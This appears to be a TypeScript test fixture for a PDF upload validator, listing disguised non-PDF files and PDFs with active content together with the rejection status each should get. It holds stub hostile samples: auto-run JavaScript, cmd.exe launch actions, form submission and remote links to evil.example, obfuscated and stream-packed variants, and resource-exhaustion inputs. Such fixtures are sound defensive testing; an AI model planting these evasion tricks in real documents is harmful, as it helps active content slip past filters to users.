import { deflateSync } from 'node:zlib';
import { pdf } from '../data/sampleFiles';
import type { HostileFile } from './hostilePictures';

/** A PDF with additional entries in its catalog. */
const pdfWith = (entries: string, more = '') =>
  Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog${entries}>>endobj\n${more}trailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1');
const encryptedPdf = Buffer.from('%PDF-1.6\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 9 0 R/ID[<00><00>]>>\n%%EOF\n');
const zip = (first: string) => {
  const head = Buffer.alloc(30);
  head.write('PK\u0003\u0004', 0, 'latin1');
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(first.length, 26);
  return Buffer.concat([head, Buffer.from(first), Buffer.from('504b0506', 'hex'), Buffer.alloc(18)]);
};
/** An image stream whose bytes look like forbidden PDF features. */
const innocent = `2 0 obj<</Length 40>>stream\n\u0001\u0002/JS (x) /JavaScript /Encrypt \u0003\nendstream endobj\n`;
const isPdf = { name: 'plan.pdf', type: 'application/pdf' };

/** A stream of packed objects: of the catalog's entries, or those of the object 7. */
const packedPdf = (entries: string, { filter = '/Filter/FlateDecode', pack = deflateSync as (text: string) => Buffer | string } = {}) => {
  const objects = `1 0 7 ${entries.length + 25} `;
  const content = `${objects}<</Type/Catalog${' '.repeat(8)}${entries}>> <</Producer(x)>>`;
  const head = `%PDF-1.7\n9 0 obj<</Type/ObjStm/N 2/First ${objects.length}${filter}>>stream\n`;
  return Buffer.concat([Buffer.from(head), Buffer.from(pack(content)), Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')]);
};
const pageWith = (resources: string, more = '') => pdfWith('', `2 0 obj<</Type/Page/Resources<<${resources}>>>>endobj\n${more}`);

/** Files that are not documents, and documents with active content. */
export const hostileDocuments: HostileFile[] = [
  { what: 'a page that is called PDF', bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), ...isPdf, refused: 415 },
  { what: 'a page that mentions a PDF', bytes: Buffer.from('<html>%PDF-1.4 %%EOF</html>'), ...isPdf, refused: 415 },
  { what: 'an SVG that is called PDF', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), ...isPdf, refused: 415 },
  { what: 'an archive', bytes: zip('readme.txt'), name: 'plan.zip', type: 'application/zip', refused: 415 },
  { what: 'an archive that is called PDF', bytes: zip('readme.txt'), ...isPdf, refused: 415 },
  { what: 'a text document', bytes: zip('word/document.xml'), name: 'plan.docx', refused: 415 },
  { what: 'a program', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)]), name: 'plan.exe', refused: 415 },
  { what: 'a program that is called PDF', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)]), ...isPdf, refused: 415 },
  { what: 'a program of another system', bytes: Buffer.concat([Buffer.from('\u007fELF', 'latin1'), Buffer.alloc(400)]), ...isPdf, refused: 415 },
  { what: 'a text', bytes: Buffer.from('Please quote.'), name: 'plan.txt', type: 'text/plain', refused: 415 },
  { what: 'half a PDF', bytes: pdf.subarray(0, pdf.length / 2), ...isPdf, refused: 422 },
  { what: 'a PDF that ended long before', bytes: Buffer.concat([pdf, Buffer.alloc(3000, 65)]), ...isPdf, refused: 422 },
  { what: 'an encrypted PDF', bytes: encryptedPdf, ...isPdf, refused: 422 },
  { what: 'a PDF that runs a script', bytes: pdfWith('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'), ...isPdf, refused: 422 },
  { what: 'a PDF that hides its script behind numbers', bytes: pdfWith('/OpenAction<</S/J#61vaScript/#4aS(x)>>'), ...isPdf, refused: 422 },
  {
    what: 'a PDF whose script stands behind a picture',
    bytes: pdfWith('/Names 3 0 R', `${innocent}3 0 obj<</JS 4 0 R>>endobj\n`),
    ...isPdf,
    refused: 422,
  },
  {
    what: 'a PDF that hides its script between comments that speak of a stream',
    bytes: pdfWith('', '%>>stream\n3 0 obj<</S/JavaScript/JS(x)>>endobj\n%endstream\n'),
    ...isPdf,
    refused: 422,
  },
  {
    what: 'a PDF that hides its script between texts that speak of a stream',
    bytes: pdfWith('', '2 0 obj(50 % \\( (a) >>stream\n)endobj\n3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n4 0 obj(endstream)endobj\n'),
    ...isPdf,
    refused: 422,
  },
  {
    what: 'a PDF whose pictures have brackets that never close, each before another one',
    bytes: pdfWith('', `2 0 obj<</Length 3>>stream\n(%(\nendstream endobj\n${innocent}`),
    ...isPdf,
    refused: null,
  },
  { what: 'a PDF that starts a program', bytes: pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>'), ...isPdf, refused: 422 },
  { what: 'a PDF that carries a file', bytes: pdfWith('/Names<</EmbeddedFiles 5 0 R>>'), ...isPdf, refused: 422 },
  { what: 'a PDF that plays something', bytes: pdfWith('/Annots[<</Subtype/RichMedia>>]'), ...isPdf, refused: 422 },
  { what: 'a PDF that opens a web page without a click', bytes: pdfWith('/OpenAction<</S/URI/URI(https://evil.example)>>'), ...isPdf, refused: 422 },
  {
    what: 'a PDF whose action elsewhere opens a web page',
    bytes: pdfWith('/OpenAction 13 0 R', '3 0 obj<<>>endobj\n13  0 obj<</S/#55RI/URI(https://evil.example)>>endobj\n'),
    ...isPdf,
    refused: 422,
  },
  { what: 'a PDF that acts on a page', bytes: pdfWith('', '2 0 obj<</Type/Page/AA<</O 3 0 R>>>>endobj\n'), ...isPdf, refused: 422 },
  { what: 'a PDF that opens a file of another machine', bytes: pdfWith('/A<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>'), ...isPdf, refused: 422 },
  { what: 'a PDF that sends what is typed', bytes: pdfWith('/A<</S/SubmitForm/F(https://evil.example)>>'), ...isPdf, refused: 422 },
  { what: 'a PDF that reads a file', bytes: pdfWith('/A<</S/ImportData/F(x.fdf)>>'), ...isPdf, refused: 422 },
  { what: 'a PDF with a form that runs scripts', bytes: pdfWith('/AcroForm<</XFA 5 0 R>>'), ...isPdf, refused: 422 },
  {
    what: 'a PDF with a link, an action within itself and a font named like one',
    bytes: pdfWith('/OpenAction 3 0 R', '3 0 obj<</S/GoTo/D[2 0 R/Fit]>>endobj\n4 0 obj<</S/URI/URI(https://a.example)/F/AAABCD+Arial>>endobj\n'),
    ...isPdf,
    refused: null,
  },
  { what: 'a PDF behind a line break', bytes: Buffer.concat([Buffer.from('\r\n'), pdf]), ...isPdf, refused: null },
  { what: 'a PDF behind a byte mark', bytes: Buffer.concat([Buffer.from('\ufeff'), pdf]), ...isPdf, refused: null },
  { what: 'a PDF behind zeros', bytes: Buffer.concat([Buffer.alloc(512), pdf]), ...isPdf, refused: null },
  { what: "a PDF behind a printer's header", bytes: Buffer.concat([Buffer.from('\u001b%-12345X@PJL JOB\r\n'), pdf]), ...isPdf, refused: null },
  { what: 'a PDF behind a page', bytes: Buffer.concat([Buffer.from('\n<html>'), pdf]), ...isPdf, refused: 415 },
  { what: 'a PDF behind a program of a shell', bytes: Buffer.concat([Buffer.from('#!/bin/sh\n'), pdf]), ...isPdf, refused: 415 },
  { what: 'a PDF behind more than viewers allow', bytes: Buffer.concat([Buffer.alloc(1100, ' '), pdf]), ...isPdf, refused: 415 },
  { what: 'a PDF before zeros', bytes: Buffer.concat([pdf, Buffer.alloc(3000)]), ...isPdf, refused: null },
  { what: 'a PDF before blanks', bytes: Buffer.concat([pdf, Buffer.alloc(3000, ' ')]), ...isPdf, refused: null },
  { what: 'a PDF before line breaks', bytes: Buffer.concat([pdf, Buffer.alloc(3000, '\r\n')]), ...isPdf, refused: null },
  { what: 'a PDF with a font that is called AA', bytes: pageWith('/Font<</A 5 0 R/AA 6 0 R/JS 7 0 R>>'), ...isPdf, refused: null },
  {
    what: 'a PDF with such fonts in an object of their own',
    bytes: pageWith('/Font 5 0 R', '5 0 obj<</AA 6 0 R/Launch 7 0 R>>endobj\n6 0 obj<</Type/Font/BaseFont/AA/Name/JS>>endobj\n'),
    ...isPdf,
    refused: null,
  },
  {
    what: 'a PDF with a field that is called AA and has a state AA',
    bytes: pdfWith('', '4 0 obj<</FT/Btn/T(/AA)/V/AA/AS/AA/AP<</N<</AA 5 0 R/Off 6 0 R>>>>/Subtype/Widget>>endobj\n'),
    ...isPdf,
    refused: null,
  },
  { what: 'a PDF with a field that formats its value', bytes: pdfWith('', '4 0 obj<</FT/Tx/T(a)/AA<</F 5 0 R>>>>endobj\n'), ...isPdf, refused: null },
  { what: 'a PDF whose text speaks of scripts', bytes: pdfWith('/Title(see /JS and /AA)/Differences[1/AA/JS]'), ...isPdf, refused: null },
  {
    what: 'a PDF with a field whose action is a script',
    bytes: pdfWith('', '4 0 obj<</FT/Tx/T(a)/AA<</F<</S/JavaScript/JS(x)>>>>>>endobj\n'),
    ...isPdf,
    refused: 422,
  },
  {
    what: 'a PDF with an annotation that acts',
    bytes: pdfWith('', '4 0 obj<</Subtype/Widget/FT/Tx/AA<</F 5 0 R>>>>endobj\n'),
    ...isPdf,
    refused: 422,
  },
  {
    what: 'a PDF with a page that acts and is also called a font',
    bytes: pageWith('/Font 5 0 R', '5 0 obj<</Parent 3 0 R/AA<</O 6 0 R>>>>endobj\n'),
    ...isPdf,
    refused: 422,
  },
  {
    what: 'a PDF that hides its script in a string that never closes',
    bytes: pdfWith('', '2 0 obj(endobj\n3 0 obj<</S/JavaScript/JS(x)>>endobj\n'),
    ...isPdf,
    refused: 422,
  },
  {
    what: 'a PDF that hides its script among fonts that never close',
    bytes: pdfWith('', '2 0 obj<</Font<</X [endobj\n3 0 obj<</JS(x)>>endobj\n'),
    ...isPdf,
    refused: 422,
  },
  { what: 'a PDF with packed objects', bytes: packedPdf('/OpenAction[2 0 R/Fit]/Title(plan)'), ...isPdf, refused: null },
  { what: 'a PDF with objects in a stream that is not packed', bytes: packedPdf('', { filter: '', pack: String }), ...isPdf, refused: null },
  { what: 'a PDF with a packed script', bytes: packedPdf('/OpenAction<</S/JavaScript/JS(x)>>'), ...isPdf, refused: 422 },
  { what: 'a PDF with a packed program', bytes: packedPdf('/A<</S/L#61unch/F(cmd.exe)>>'), ...isPdf, refused: 422 },
  { what: 'a PDF with a packed web page', bytes: packedPdf('/OpenAction<</S/URI/URI(https://evil.example)>>'), ...isPdf, refused: 422 },
  { what: 'a PDF with a script in a packed string', bytes: packedPdf('/Title(<</S/JavaScript/JS(x)>>)'), ...isPdf, refused: 422 },
  { what: 'a PDF with a script that is not packed', bytes: packedPdf('/A<</S/Launch>>', { filter: '', pack: String }), ...isPdf, refused: 422 },
  {
    what: 'a PDF with objects packed in an uncommon way',
    bytes: packedPdf('', { filter: '/Filter[/ASCIIHexDecode/FlateDecode]' }),
    ...isPdf,
    refused: 422,
  },
  { what: 'a PDF whose packed objects are damaged', bytes: packedPdf('', { pack: String }), ...isPdf, refused: 422 },
  { what: 'a PDF whose packed objects are too large', bytes: packedPdf(' '.repeat(80_000_000)), ...isPdf, refused: 422 },
  { what: 'a PDF that turns to its first page', bytes: pdfWith('/OpenAction[2 0 R/Fit]/JSomething(x)'), ...isPdf, refused: null },
  { what: 'a PDF with a picture of any bytes', bytes: pdfWith('', innocent), ...isPdf, refused: null },
  { what: 'a PDF of a million streams that never end', bytes: pdfWith('', 'stream\n'.repeat(1_000_000)), ...isPdf, refused: null },
  { what: 'a script behind a million such streams', bytes: pdfWith('', `${'stream\n'.repeat(1_000_000)}/JS (x)\n`), ...isPdf, refused: 422 },
  { what: 'a PDF of a million brackets that never close', bytes: pdfWith('', '('.repeat(1_000_000)), ...isPdf, refused: null },
  {
    what: 'a PDF with a packed stream',
    bytes: pdfWith('', `2 0 obj<</Filter/FlateDecode>>stream\r\n${deflateSync('q 1 0 0 1 0 0 cm Q').toString('latin1')}\r\nendstream endobj\n`),
    ...isPdf,
    refused: null,
  },
];
